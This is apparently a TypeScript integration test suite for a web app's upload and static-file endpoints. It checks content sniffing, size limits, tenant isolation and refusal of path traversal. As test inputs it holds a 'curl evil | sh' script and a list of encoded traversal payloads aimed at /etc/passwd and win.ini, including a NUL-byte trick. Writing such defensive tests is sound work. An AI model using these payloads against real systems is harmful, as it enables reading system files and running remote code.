import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { UPLOAD_MESSAGES } from '@aps/shared';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sysLog } from '../src/modules/platform/audit/tables.ts';
import { sysFile } from '../src/modules/platform/file/tables.ts';
import { sysUserTenant } from '../src/modules/platform/system/tables.ts';
import { createTestApp, TEST_ADMIN_PASSWORD, type TestApp } from './harness.ts';
import { HTML_PAGE, LINUX_ELF, PDF_MIN, PNG_1PX, pngOfSize, WINDOWS_EXE } from './upload-fixtures.ts';

const UPLOAD = '/aps/sys/common/upload';
const STATIC = '/aps/sys/common/static';
const uploadDir = fs.mkdtempSync(path.join(os.tmpdir(), 'aps-upload-it-'));

let t: TestApp;
let admin: string;
/** A buyer of tenant 1 (no admin codes): uploading and reading need only a login. */
let buyer: string;
/** The admin of tenant 2. */
let otherTenant: string;
/** A user of tenants 1 and 2, choosing with the tenant-id header. */
let both: string;

beforeAll(async () => {
  t = await createTestApp({ uploadDir });
  admin = await t.login('admin', TEST_ADMIN_PASSWORD);
  buyer = await t.login((await t.createUser({ roles: ['buyer'] })).username);
  otherTenant = await t.login((await t.createUser({ roles: ['admin'], tenantId: 2, departs: ['B01'] })).username);
  const u = await t.createUser({ roles: ['buyer'] });
  await t.db.insert(sysUserTenant).values({ userId: u.id, tenantId: 2 });
  both = await t.login(u.username);
});
afterAll(async () => {
  await t.close();
  fs.rmSync(uploadDir, { recursive: true, force: true });
});

interface Part {
  name: string;
  value?: string;
  fileName?: string;
  content?: Buffer;
  type?: string;
}

function multipart(parts: Part[]) {
  const boundary = `----aps${Date.now().toString(16)}${Math.random().toString(16).slice(2)}`;
  const chunks = parts.flatMap((p) =>
    p.fileName === undefined
      ? [Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"\r\n\r\n${p.value ?? ''}\r\n`)]
      : [
          Buffer.from(
            `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"; filename="${p.fileName}"\r\n` +
              `Content-Type: ${p.type ?? 'application/octet-stream'}\r\n\r\n`,
          ),
          p.content ?? Buffer.alloc(0),
          Buffer.from('\r\n'),
        ],
  );
  return {
    payload: Buffer.concat([...chunks, Buffer.from(`--${boundary}--\r\n`)]),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

async function upload(token: string | null, fileName: string, content: Buffer, extra: Part[] = [], tenant?: number) {
  const { payload, headers } = multipart([...extra, { name: 'file', fileName, content, type: 'image/png' }]);
  return t.app.inject({
    method: 'POST',
    url: UPLOAD,
    payload,
    headers: {
      ...headers,
      ...(token ? { 'x-access-token': token } : {}),
      ...(tenant ? { 'tenant-id': String(tenant) } : {}),
    },
  });
}

const read = (token: string | null, filePath: string, tenant?: number) =>
  t.app.inject({
    method: 'GET',
    url: `${STATIC}/${filePath}`,
    headers: { ...(token ? { 'x-access-token': token } : {}), ...(tenant ? { 'tenant-id': String(tenant) } : {}) },
  });

async function uploaded(token: string, fileName: string, content: Buffer, extra: Part[] = [], tenant?: number) {
  const res = await upload(token, fileName, content, extra, tenant);
  expect(res.statusCode, res.body).toBe(200);
  return res.json() as {
    success: boolean;
    message: string;
    code: number;
    result: { id: string; fileName: string; filePath: string; fileSize: number; mime: string };
  };
}

describe('POST /sys/common/upload', () => {
  it('stores a good image: message is the path (§7), the record names tenant, uploader, size and type', async () => {
    const body = await uploaded(buyer, '现场照片.png', PNG_1PX);
    expect(body).toMatchObject({ success: true, code: 200 });
    expect(body.message).toBe(body.result.filePath);
    expect(body.result).toMatchObject({ fileName: '现场照片.png', fileSize: PNG_1PX.length, mime: 'image/png' });
    // biz defaults to temp (§7 generic upload); the stored name is generated, never the browser's.
    expect(body.result.filePath).toMatch(/^temp\/\d{8}\/[0-9a-f-]{36}\.png$/);
    expect(fs.readFileSync(path.join(uploadDir, body.result.filePath))).toEqual(PNG_1PX);
    const [row] = await t.db.select().from(sysFile).where(eq(sysFile.id, body.result.id));
    expect(row).toMatchObject({ tenantId: 1, size: PNG_1PX.length, mime: 'image/png', biz: 'temp' });
    expect(row?.createBy).toBeTruthy();
  });

  it('takes biz as the folder, before or after the file part, and refuses a biz that is not a plain name', async () => {
    expect((await uploaded(admin, 'a.png', PNG_1PX, [{ name: 'biz', value: 'ftl' }])).result.filePath).toMatch(
      /^ftl\//,
    );
    const { payload, headers } = multipart([
      { name: 'file', fileName: 'b.pdf', content: PDF_MIN },
      { name: 'biz', value: 'contract' },
    ]);
    const after = await t.app.inject({
      method: 'POST',
      url: UPLOAD,
      payload,
      headers: { ...headers, 'x-access-token': admin },
    });
    expect(after.json().result.filePath).toMatch(/^contract\/\d{8}\/[0-9a-f-]{36}\.pdf$/);
    const bad = await upload(admin, 'c.png', PNG_1PX, [{ name: 'biz', value: '../../etc' }]);
    expect(bad.statusCode).toBe(400);
    expect(bad.json().message).toBe(UPLOAD_MESSAGES.badBiz);
  });

  it('refuses an image over 10485760 bytes with the §5 message, and accepts exactly 10485760', async () => {
    const tooBig = await upload(buyer, 'big.png', pngOfSize(10_485_761));
    expect(tooBig.statusCode).toBe(400);
    expect(tooBig.json()).toMatchObject({ success: false, message: '图片大小超出10MB限制, 请压缩或降低文件质量!' });
    const limit = await uploaded(buyer, 'limit.png', pngOfSize(10_485_760));
    expect(limit.result.fileSize).toBe(10_485_760);
  });

  it('refuses a renamed .html saved as .png by its content, with a clear Chinese message', async () => {
    for (const name of ['photo.png', 'page.html', 'notes.txt']) {
      const res = await upload(buyer, name, HTML_PAGE);
      expect(res.statusCode, name).toBe(400);
      expect(res.json().message).toBe('不允许上传网页或脚本文件（文件内容为 HTML/脚本）');
    }
  });

  it('refuses executables whatever they are called', async () => {
    for (const [name, content] of [
      ['setup.exe', WINDOWS_EXE],
      ['invoice.pdf', WINDOWS_EXE],
      ['photo.jpg', LINUX_ELF],
      ['readme.txt', Buffer.from('#!/bin/bash\ncurl evil | sh\n')],
    ] as const) {
      const res = await upload(buyer, name, content);
      expect(res.statusCode, name).toBe(400);
      expect(res.json().message).toBe('不允许上传可执行文件');
    }
    const count = await t.db.select({ id: sysFile.id }).from(sysFile).where(eq(sysFile.fileName, 'setup.exe'));
    expect(count).toEqual([]);
  });

  it('refuses no file, an empty file, and an image name over other content', async () => {
    const { payload, headers } = multipart([{ name: 'biz', value: 'temp' }]);
    const none = await t.app.inject({
      method: 'POST',
      url: UPLOAD,
      payload,
      headers: { ...headers, 'x-access-token': buyer },
    });
    expect(none.json().message).toBe('未上传任何文件');
    expect((await upload(buyer, 'empty.png', Buffer.alloc(0))).json().message).toBe(UPLOAD_MESSAGES.emptyFile);
    expect((await upload(buyer, 'fake.png', Buffer.from('plain words'))).json().message).toBe(UPLOAD_MESSAGES.mismatch);
  });

  it('needs a login, and writes an audit row', async () => {
    expect((await upload(null, 'a.png', PNG_1PX)).statusCode).toBe(401);
    await uploaded(admin, 'audited.png', PNG_1PX);
    // Written in onResponse, after the answer reached the caller.
    const logged = async () =>
      (
        await t.db
          .select({ content: sysLog.logContent })
          .from(sysLog)
          .where(and(eq(sysLog.logContent, '上传文件'), eq(sysLog.tenantId, 1)))
      ).length;
    await expect.poll(logged).toBeGreaterThan(0);
  });
});

describe('GET /sys/common/static/<path>', () => {
  it('serves an image inline with its detected type, Content-Disposition and nosniff', async () => {
    const { result } = await uploaded(buyer, '现场照片.png', PNG_1PX);
    const res = await read(buyer, result.filePath);
    expect(res.statusCode).toBe(200);
    expect(res.rawPayload).toEqual(PNG_1PX);
    expect(res.headers['content-type']).toBe('image/png');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-disposition']).toBe(
      `inline; filename="____.png"; filename*=UTF-8''${encodeURIComponent('现场照片.png')}`,
    );
    expect(String(res.headers['content-security-policy'])).toContain('sandbox');
    // A leading slash is the same path.
    expect((await read(buyer, `/${result.filePath}`)).statusCode).toBe(200);
  });

  it('serves a PDF inline and other files as attachments', async () => {
    const pdf = await uploaded(buyer, 'contract.pdf', PDF_MIN);
    const pdfRes = await read(buyer, pdf.result.filePath);
    expect(pdfRes.headers['content-type']).toBe('application/pdf');
    expect(pdfRes.headers['content-disposition']).toMatch(/^inline; filename="contract.pdf"/);
    const bin = await uploaded(buyer, 'data.bin', Buffer.from([0, 1, 2, 3, 250]));
    const binRes = await read(buyer, bin.result.filePath);
    expect(binRes.headers['content-type']).toBe('application/octet-stream');
    expect(binRes.headers['content-disposition']).toMatch(/^attachment; filename="data.bin"/);
    expect(binRes.headers['x-content-type-options']).toBe('nosniff');
  });

  it('refuses traversal attempts, plain and encoded, and never answers a file outside the storage root', async () => {
    // Beside the storage root, so a traversal would reach it; named per process, since both database runs of the
    // suite share /tmp at once.
    const secret = `aps-upload-secret-${process.pid}.txt`;
    fs.writeFileSync(path.join(uploadDir, '..', secret), 'root:x:0:0');
    const attempts = [
      '../../etc/passwd',
      '..%2f..%2fetc%2fpasswd',
      '%2e%2e/%2e%2e/etc/passwd',
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      '%252e%252e%252fetc%252fpasswd',
      '..%5c..%5cwindows%5cwin.ini',
      '%2Fetc%2Fpasswd',
      `temp/%2e%2e/%2e%2e/${secret}`,
      `..%2f${path.basename(uploadDir)}%2f..%2f${secret}`,
      'temp/20261123/0b9b4d1e-3a44-4c2e-9f51-2a7c1d9e8f00.png%00.html',
    ];
    for (const attempt of attempts) {
      const res = await read(buyer, attempt);
      expect([400, 404], attempt).toContain(res.statusCode);
      expect(res.body, attempt).not.toContain('root:x');
      // A NUL byte is refused before any route runs (the input-hygiene guard), the rest by the path check.
      if (res.statusCode === 400) expect(['文件路径不合法', '包含非法字符']).toContain(res.json().message);
    }
    // The ones that reach the route are refused by the path check itself.
    for (const attempt of [
      '..%2f..%2fetc%2fpasswd',
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      '%252e%252e%252fetc%252fpasswd',
    ]) {
      expect((await read(buyer, attempt)).json().message, attempt).toBe('文件路径不合法');
    }
    fs.rmSync(path.join(uploadDir, '..', secret));
  });

  it('keeps files inside their tenant: another tenant gets 404, even the same user under the other tenant', async () => {
    const { result } = await uploaded(both, 'tenant1.png', PNG_1PX, [], 1);
    expect((await read(both, result.filePath, 1)).statusCode).toBe(200);
    expect((await read(admin, result.filePath)).statusCode).toBe(200);
    const other = await read(otherTenant, result.filePath);
    expect(other.statusCode).toBe(404);
    expect(other.json().message).toBe(UPLOAD_MESSAGES.fileMissing);
    expect((await read(both, result.filePath, 2)).statusCode).toBe(404);
    // And the other way round.
    const mine = await uploaded(otherTenant, 'tenant2.png', PNG_1PX);
    expect((await read(otherTenant, mine.result.filePath)).statusCode).toBe(200);
    expect((await read(admin, mine.result.filePath)).statusCode).toBe(404);
  });

  it('needs a login; an unknown but well-formed path is 404', async () => {
    const { result } = await uploaded(buyer, 'x.png', PNG_1PX);
    expect((await read(null, result.filePath)).statusCode).toBe(401);
    expect((await read(buyer, 'temp/20261123/00000000-0000-4000-8000-000000000000.png')).statusCode).toBe(404);
  });
});
